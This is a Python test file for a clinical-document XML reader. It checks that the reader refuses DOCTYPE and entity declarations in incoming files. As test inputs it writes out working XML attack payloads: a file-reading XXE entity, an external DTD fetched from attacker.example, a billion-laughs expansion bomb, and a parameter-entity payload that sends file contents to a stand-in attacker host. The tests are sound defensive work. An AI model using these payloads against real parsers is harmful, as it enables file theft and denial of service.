"""XML attacks on the CDA reader: every DOCTYPE or entity declaration is refused before
parsing, no file is read, no network access is tried, and expansion never happens."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest

from gateway import Converter
from gateway.errors import IntakeError
from gateway.intake.cda import REFUSED, read_documents, refuse_declarations
from gateway.intake.cda._parse import parse_document

SECRET = "绝密-患者数据-7f3a9c"

BODY = (
    '<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="1.2.3" extension="X1"/>'
    '<code code="18748-4" codeSystem="2.16.840.1.113883.6.1"/><title>&xxe;</title>'
    "</ClinicalDocument>"
)


def _refused(data: bytes) -> IntakeError:
    unit = next(read_documents(data, "attack.xml"))
    assert unit.view is None
    assert isinstance(unit.error, IntakeError)
    return unit.error


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def test_classic_xxe_reading_a_file_is_refused_and_reads_nothing(
    secret_file: Path, converter: Converter
) -> None:
    data = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n' + BODY
    ).encode()
    error = _refused(data)
    assert error.code == "intake.xml-doctype"
    assert error.issue.message == REFUSED
    [record] = converter.convert(data, "attack.xml", fmt="cda")
    assert not record.ok and record.bundle_json is None
    everything = " ".join(i.line() for i in record.issues) + str(record.issues)
    assert SECRET not in everything
    assert "XXE" in everything


def test_the_parser_itself_resolves_no_entity_if_the_prolog_check_were_bypassed(
    secret_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Belt and braces: with the check switched off, lxml still reads no file."""
    import gateway.intake.cda._parse as parse

    monkeypatch.setattr(parse, "refuse_declarations", lambda data: None)
    data = (
        f'<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file://{secret_file}">]>' + BODY
    ).encode()
    with pytest.raises(IntakeError) as caught:
        parse.parse_document(data)
    assert SECRET not in str(caught.value)


def test_external_dtd_over_http_is_refused_without_touching_the_network(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the CDA reader tried to open a network connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    data = (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/cda.dtd">\n'
        + BODY.replace("&xxe;", "x")
    ).encode()
    assert _refused(data).code == "intake.xml-doctype"


def test_billion_laughs_is_refused_quickly() -> None:
    lols = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    data = (
        f'<?xml version="1.0"?><!DOCTYPE ClinicalDocument [{"".join(lols)}]>'
        + BODY.replace("&xxe;", "&lol9;")
    ).encode()
    start = time.perf_counter()
    assert _refused(data).code == "intake.xml-doctype"
    assert time.perf_counter() - start < 0.5


def test_parameter_entities_are_refused(secret_file: Path) -> None:
    data = (
        "<!DOCTYPE ClinicalDocument [\n"
        f'  <!ENTITY % file SYSTEM "file://{secret_file}">\n'
        "  <!ENTITY % eval \"<!ENTITY exfil SYSTEM 'http://attacker.example/?%file;'>\">\n"
        "  %eval;\n]>\n" + BODY
    ).encode()
    error = _refused(data)
    assert error.code == "intake.xml-doctype"
    assert SECRET not in str(error)


@pytest.mark.parametrize(
    "prolog",
    [
        '<?xml version="1.0"?><!-- 注释 --><!DOCTYPE x>',
        "\ufeff<!DOCTYPE x>",
        '<?xml version="1.0"?>\n<?xml-stylesheet href="CDA.xsl"?>\n<!ENTITY a "b">',
    ],
    ids=["after-comment", "after-bom", "entity-after-pi"],
)
def test_a_declaration_anywhere_in_the_prolog_is_refused(prolog: str) -> None:
    with pytest.raises(IntakeError, match="DOCTYPE"):
        refuse_declarations((prolog + BODY).encode("utf-8"))


def test_utf16_documents_are_checked_too() -> None:
    data = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x>' + BODY).encode("utf-16")
    assert _refused(data).code == "intake.xml-doctype"


def test_doctype_text_inside_the_document_is_only_text() -> None:
    data = BODY.replace("&xxe;", "&lt;!DOCTYPE html&gt; 不是声明").encode()
    tree = parse_document(data)
    assert tree.getroot().findtext("title") == "<!DOCTYPE html> 不是声明"


def test_mapping_paths_with_double_slash_are_refused_at_load() -> None:
    # '//section[...]' made a fuzzed 1 MB CDA of 2,400 sections take 20 s of CPU in
    # libxml2; '/descendant::section[...]' takes milliseconds. URLs in literals stay.
    from gateway.errors import ConfigError
    from gateway.intake.cda import check_path

    with pytest.raises(ConfigError, match="descendant::"):
        check_path("/ClinicalDocument/component/structuredBody//section[title='印象']/text")
    check_path("/ClinicalDocument/component/structuredBody/descendant::section[title='印象']/text")
    check_path("/ClinicalDocument/code[@codeSystemName='http://loinc.org']/@code")
